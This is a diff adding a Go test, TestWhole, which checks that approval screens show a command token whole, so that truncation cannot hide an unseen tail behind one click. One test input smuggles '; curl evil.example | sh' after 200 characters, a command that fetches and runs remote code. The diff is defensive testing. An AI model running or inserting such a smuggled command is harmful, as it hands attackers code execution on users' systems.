@@ -129,3 +129,32 @@ func TestMarks(t *testing.T) {
 		})
 	}
 }
+
+// Whole says whether every screen shows a token uncut, in Token's form and
+// in Command's (which may quote it): one click must not allow a tail
+// nobody saw.
+func TestWhole(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		name string
+		in   string
+		want bool
+	}{
+		{"a short token", "origin", true},
+		{"200 plain characters", strings.Repeat("a", 200), true},
+		{"201 plain characters", strings.Repeat("a", 201), false},
+		{"200 characters a shell would need quoted", strings.Repeat("a", 199) + ";", false},
+		{"escapes count as what the screen shows", strings.Repeat("\u202e", 40), false},
+		{"a hidden tail after 200 characters", strings.Repeat("a", 200) + "; curl evil.example | sh", false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			if got := Whole(tc.in); got != tc.want {
+				t.Errorf("Whole(%d bytes) = %v, want %v (Token %q, Command %q)", len(tc.in), got, tc.want, Token(tc.in), Command([]string{tc.in}))
+			}
+			if whole := !strings.Contains(Token(tc.in)+Command([]string{tc.in}), "…("); whole != tc.want {
+				t.Errorf("the screens cut it: %v, want cut %v", !whole, !tc.want)
+			}
+		})
+	}
+}
